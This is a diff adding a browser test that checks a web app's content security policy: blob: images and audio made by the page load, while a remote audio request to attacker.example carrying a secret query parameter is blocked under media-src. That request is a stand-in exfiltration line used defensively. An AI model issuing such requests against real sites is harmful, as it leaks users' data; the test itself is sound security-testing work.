@@ -73,6 +73,62 @@ describe.skipIf(!chromiumAvailable)("the content security policies in a real bro
     await context.close();
   }, 30_000);
 
+  test("blob: images and audio of the page's own making load (previews, speech); remote audio does not", async () => {
+    const context = await browser.newContext();
+    await recordViolations(context);
+    const page = await context.newPage();
+    await page.goto(server.baseUrl);
+    const loaded = await page.evaluate(async () => {
+      const canvas = document.createElement("canvas");
+      canvas.width = 4;
+      canvas.height = 3;
+      const png = await new Promise<Blob>((resolve) =>
+        canvas.toBlob((blob) => resolve(blob as Blob), "image/png"),
+      );
+      const image = new Image();
+      image.src = URL.createObjectURL(png);
+      await image.decode();
+      // A 1 ms mono 8 kHz WAV: the smallest audio a player loads.
+      const wav = new Uint8Array(44 + 16);
+      const view = new DataView(wav.buffer);
+      wav.set(new TextEncoder().encode("RIFF"), 0);
+      view.setUint32(4, 36 + 16, true);
+      wav.set(new TextEncoder().encode("WAVEfmt "), 8);
+      view.setUint32(16, 16, true);
+      view.setUint16(20, 1, true);
+      view.setUint16(22, 1, true);
+      view.setUint32(24, 8000, true);
+      view.setUint32(28, 16000, true);
+      view.setUint16(32, 2, true);
+      view.setUint16(34, 16, true);
+      wav.set(new TextEncoder().encode("data"), 36);
+      view.setUint32(40, 16, true);
+      const audio = new Audio(URL.createObjectURL(new Blob([wav], { type: "audio/wav" })));
+      await new Promise((resolve, reject) => {
+        audio.addEventListener("loadedmetadata", resolve, { once: true });
+        audio.addEventListener("error", () => reject(new Error("the blob: audio did not load")), {
+          once: true,
+        });
+      });
+      return { width: image.naturalWidth, duration: audio.duration };
+    });
+    expect(loaded.width).toBe(4);
+    expect(loaded.duration).toBeGreaterThan(0);
+    expect(await violationsOf(page)).toEqual([]);
+
+    await page.evaluate(() => {
+      const audio = new Audio("https://attacker.example/leak.mp3?secret=1");
+      void audio.play().catch(() => undefined);
+    });
+    await page.waitForFunction(
+      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
+    );
+    expect(await violationsOf(page)).toEqual([
+      { directive: "media-src", blocked: "https://attacker.example/leak.mp3?secret=1" },
+    ]);
+    await context.close();
+  }, 30_000);
+
   test("/swagger: Swagger UI renders every operation offline, under the strict policy", async () => {
     const context = await browser.newContext();
     await recordViolations(context);
